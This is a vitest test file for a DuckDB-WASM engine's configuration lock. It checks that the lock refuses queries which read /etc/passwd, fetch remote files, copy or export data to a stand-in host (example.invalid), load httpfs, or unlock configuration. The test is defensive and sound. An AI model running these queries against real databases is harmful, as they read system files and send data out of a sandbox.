import { describe, expect, it } from 'vitest';
import type { Engine } from '#lib/engine/engine.ts';

const attempts = [
  "SELECT * FROM read_csv('http://example.invalid/x.csv')",
  "SELECT * FROM 'https://example.invalid/x.parquet'",
  "SELECT * FROM read_csv('/etc/passwd')",
  "SELECT * FROM read_text('/etc/passwd')",
  "SELECT * FROM glob('/etc/*')",
  "SELECT * FROM '/etc/passwd'",
  "COPY (SELECT 1 AS n) TO 'stolen.csv'",
  "COPY (SELECT 1 AS n) TO 'http://example.invalid/stolen.csv'",
  "EXPORT DATABASE 'stolen'",
  "ATTACH 'stolen.db' AS stolen",
  "ATTACH 'http://example.invalid/x.db' AS foreign_db",
  'LOAD httpfs',
  "INSTALL httpfs FROM 'http://example.invalid'; LOAD httpfs",
  'CREATE PERSISTENT SECRET stolen (TYPE s3)',
  'SET enable_external_access = true',
  'SET autoload_known_extensions = true',
  "SET custom_extension_repository = 'http://example.invalid'",
  "SET temp_directory = '/tmp/stolen'",
  'SET lock_configuration = false',
  'RESET lock_configuration',
  'PRAGMA lock_configuration = false',
];

export function describeLock(engine: () => Engine): void {
  describe('the lock', () => {
    it.each(attempts)('refuses %s and goes on computing', async (sql) => {
      await expect(engine().query(sql)).rejects.toMatchObject({ code: 'query-failed', sql });
      expect(await engine().query('SELECT 1 + 1 AS two')).toEqual([{ two: 2 }]);
    });

    it('gets nothing from INSTALL, whether that says so or not', async () => {
      // DuckDB-WASM answers INSTALL with success and does nothing.
      await engine()
        .run('INSTALL httpfs')
        .catch(() => undefined);
      await expect(engine().run('LOAD httpfs')).rejects.toMatchObject({ code: 'query-failed' });
    });

    it.each([
      "SELECT TIMESTAMPTZ '2024-01-01 00:00:00+00' AT TIME ZONE 'Asia/Tokyo' AS t",
      'SELECT to_json(1) AS json',
      'SELECT current_date AS today',
    ])('survives %s, which needs an extension where DuckDB brings none', async (sql) => {
      await engine()
        .query(sql)
        .catch(() => undefined);
      expect(await engine().query('SELECT 1 + 1 AS two')).toEqual([{ two: 2 }]);
    });
  });
}
